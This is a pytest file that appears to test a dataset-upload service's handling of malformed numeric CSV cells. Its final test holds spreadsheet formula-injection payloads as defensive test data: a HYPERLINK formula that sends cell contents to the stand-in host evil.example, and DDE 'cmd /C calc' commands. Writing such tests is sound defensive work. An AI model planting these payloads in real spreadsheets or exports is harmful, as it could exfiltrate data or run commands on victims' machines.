"""Cells that look like numbers and are none, and cells that a spreadsheet would run."""

import pytest

from studies.models import DatasetVersion
from tests.bad_input.conftest import Door, kinds, warned
from tests.bad_input.files import CLASSES, NOISE, N, table


def of(*cells: object) -> str:
    """A table whose column x has these cells, over and over."""
    return table("x,z,y", [cells[i % len(cells)] for i in range(N)], NOISE, CLASSES)


@pytest.mark.parametrize(
    ("content", "code", "said"),
    [
        pytest.param(of("1.5", "2.5", "inf"), "mixed", "20 not; the first is “inf” on line 4", id="infinities"),
        pytest.param(of("1.5", "2.5", "nan"), "missing_words", "“nan” in 20 cells of 1 column", id="nan_features"),
        pytest.param(of(""), "empty", "“x” has no values", id="all_nan_column"),
        pytest.param(of("1.5", "2.25", "1_000"), "mixed", "“1_000” on line 4", id="underscore"),
        pytest.param(of("1.5", "2.25", "１２"), "mixed", "“１２” on line 4", id="fullwidth"),
        pytest.param(of("1.5", "2.25", "high"), "mixed", "40 of 60 cells are numbers, 20 not", id="mixed_types"),
    ],
)
def test_count_and_column_are_told_and_a_person_chooses(door: Door, content: str, code: str, said: str) -> None:
    version = door.accepted(content)
    assert said in warned(version)[code]
    if code == "mixed":
        assert kinds(version)["x"] not in ("number", "integer")


@pytest.mark.parametrize("cells", [("12 %", "7.5 %", "30 %"), ('"1,234.5 €"', '"12,000 €"', "7 €")])
def test_thousands_and_percent_are_never_read_in_silence(door: Door, cells: tuple[str, ...]) -> None:
    """thousands_percent: told with the column, whether they are stripped or not."""
    version = door.accepted(of(*cells))
    assert "“x”" in warned(version)["decorated"]


def test_the_largest_and_the_least_numbers_stay_what_they_are(door: Door) -> None:
    """huge_and_tiny"""
    version = door.accepted(of("1.7e308", "-1.7e308", "5e-324", "1e-300"))
    profile = DatasetVersion.objects.get().columns.get(name="x").profile
    assert kinds(version)["x"] == "number"
    assert (profile["min"], profile["max"]) == (-1.7e308, 1.7e308)


def test_a_number_beyond_all_numbers_is_none(door: Door) -> None:
    """huge_and_tiny"""
    version = door.accepted(of("2.5", "7.5", "1e400"))
    assert "“1e400” on line 4" in warned(version)["mixed"]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"]


def test_formulas_are_words_when_they_come_in(door: Door) -> None:
    """formula_injection, formula_header: kept as they came, shown as text; exports escape them (test_exports.py)."""
    quoted = ['"' + formula.replace('"', '""') + '"' for formula in FORMULAS]
    version = door.accepted(table(f"x,{quoted[0]},y", [quoted[i % 4] for i in range(N)], NOISE, CLASSES))
    assert kinds(version) == {"x": "category", FORMULAS[0]: "number", "y": "category"}
    page = door.browser.get(f"/datasets/{DatasetVersion.objects.get().dataset_id}/").content.decode()
    assert "=HYPERLINK(&quot;http" in page
    assert 'href="http://evil' not in page
